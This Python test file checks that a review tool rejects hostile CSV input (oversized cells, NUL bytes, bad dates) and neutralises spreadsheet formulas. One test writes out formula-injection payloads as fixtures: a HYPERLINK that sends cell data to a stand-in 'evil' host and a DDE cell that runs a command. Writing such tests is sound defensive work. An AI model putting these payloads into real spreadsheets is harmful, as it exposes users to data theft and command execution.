"""reviews.csv and review.csv with hostile cells (reliability review 2026-12: rv.huge-cell,
rv.nul, rv.future-date, rv.date-basic, rv.formula)."""

from __future__ import annotations

import csv

import pytest

from tests.scenarios.test_review import accept_all, review, write_reviews
from tests.scenarios.test_review_drop_stale import toy_env  # noqa: F401  (the fixture)


def _review(toy_env, rows) -> tuple[int, str]:  # noqa: F811
    tmp = toy_env["tmp"]
    reviews = tmp / "reviews.csv"
    write_reviews(reviews, rows)
    return review(toy_env, reviews, tmp / "s")


def test_rv_huge_cell_a_long_note_is_read(toy_env) -> None:  # noqa: F811
    rows = accept_all(toy_env["records"][:1])
    rows[0][6] = "n" * 200_000  # past Python csv's 131,072-character field limit
    code, out = _review(toy_env, rows)
    assert code == 0, out


def test_rv_nul_a_nul_byte_is_one_located_error(toy_env) -> None:  # noqa: F811
    rows = accept_all(toy_env["records"][:2])
    rows[1][3] = "me\x00"
    code, out = _review(toy_env, rows)
    assert code == 2 and "reviews.csv, line 3: a NUL character" in out, out
    assert not (toy_env["tmp"] / "s").exists()


@pytest.mark.parametrize(
    ("day", "case"), [("9999-12-31", "rv.future-date"), ("20261201", "rv.date-basic")]
)
def test_a_date_that_is_not_a_past_yyyy_mm_dd_is_refused(toy_env, day, case) -> None:  # noqa: F811
    rows = accept_all(toy_env["records"][:1])
    rows[0][5] = day
    code, out = _review(toy_env, rows)
    assert code == 2, (case, out)
    assert "line 2, field 'date': expected a date YYYY-MM-DD, not in the future" in out


def test_rv_formula_cells_of_review_csv_are_neutralised(toy_env) -> None:  # noqa: F811
    rows = accept_all(toy_env["records"][:2])
    rows[0][3] = '=HYPERLINK("http://evil/?"&A1,"x")'
    rows[1][3] = "+cmd|' /C calc'!A0"
    rows[1][6] = "@SUM(A1:A2)"
    code, out = _review(toy_env, rows)
    assert code == 0, out
    sheet = toy_env["tmp"] / "s" / "review.csv"
    cells = [c for row in csv.reader(sheet.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in cells and "'@SUM(A1:A2)" in cells


def test_cli_review_a_named_verdicts_file_that_does_not_exist(toy_env) -> None:  # noqa: F811
    """cli.review: `--reviews nosuch.csv` printed "0 accepted ... not reviewed", exit 0."""
    tmp = toy_env["tmp"]
    code, out = review(toy_env, tmp / "nosuch.csv", tmp / "s")
    assert code == 2 and "verdicts file not found" in out and not (tmp / "s").exists(), out
